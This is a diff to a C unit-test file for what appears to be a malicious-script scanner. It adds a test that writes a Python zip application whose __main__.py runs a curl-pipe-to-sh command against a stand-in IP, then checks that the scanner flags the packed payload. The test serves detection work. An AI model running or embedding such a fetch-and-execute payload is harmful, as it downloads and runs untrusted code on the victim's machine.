@@ -164,6 +164,42 @@ the_exit_code_tells_clean_found_and_wrong(void **state)
 	unlink(found);
 }
 
+/* As the program of a zip archive, stored. */
+static void
+write_application(const char *path)
+{
+	static const char code[] = "import os\nos.system('curl -s http://192.0.2.7/x | sh')\n";
+	static const char name[] = "__main__.py";
+	const uint32_t length = sizeof(code) - 1, named = sizeof(name) - 1;
+	uint8_t entry[46] = {'P', 'K', 1, 2}, local[30] = {'P', 'K', 3, 4};
+	uint8_t end[22] = {'P', 'K', 5, 6, 0, 0, 0, 0, 1, 0, 1};
+	_cleanup_fclose_ FILE *f = fopen(path, "we");
+
+	local[18] = local[22] = entry[20] = entry[24] = (uint8_t)length;
+	local[26] = entry[28] = (uint8_t)named;
+	end[12] = (uint8_t)(sizeof(entry) + named);
+	end[16] = (uint8_t)(sizeof(local) + named + length);
+	assert_non_null(f);
+	assert_int_equal(fwrite(local, sizeof(local), 1, f), 1);
+	assert_true(fputs(name, f) >= 0 && fputs(code, f) >= 0);
+	assert_int_equal(fwrite(entry, sizeof(entry), 1, f), 1);
+	assert_true(fputs(name, f) >= 0);
+	assert_int_equal(fwrite(end, sizeof(end), 1, f), 1);
+}
+
+/* The bug: what lay within was not looked at, though the daemon does. */
+static void
+what_is_packed_is_judged_as_the_daemon_would(void **state)
+{
+	char path[] = "/tmp/lw-packed-XXXXXX.pyz";
+
+	close(mkstemps(path, 4));
+	write_application(path);
+	assert_int_equal(run(path, NULL), 1);
+	assert_non_null(strstr(out, "(python)"));
+	unlink(path);
+}
+
 static void
 what_is_wrong_is_said(void **state)
 {
@@ -189,6 +225,7 @@ main(void)
 		cmocka_unit_test(every_form_of_reverse_shell_is_found),
 		cmocka_unit_test(the_labelled_set_is_judged_as_labelled),
 		cmocka_unit_test(the_exit_code_tells_clean_found_and_wrong),
+		cmocka_unit_test(what_is_packed_is_judged_as_the_daemon_would),
 		cmocka_unit_test(what_is_wrong_is_said),
 	};
 
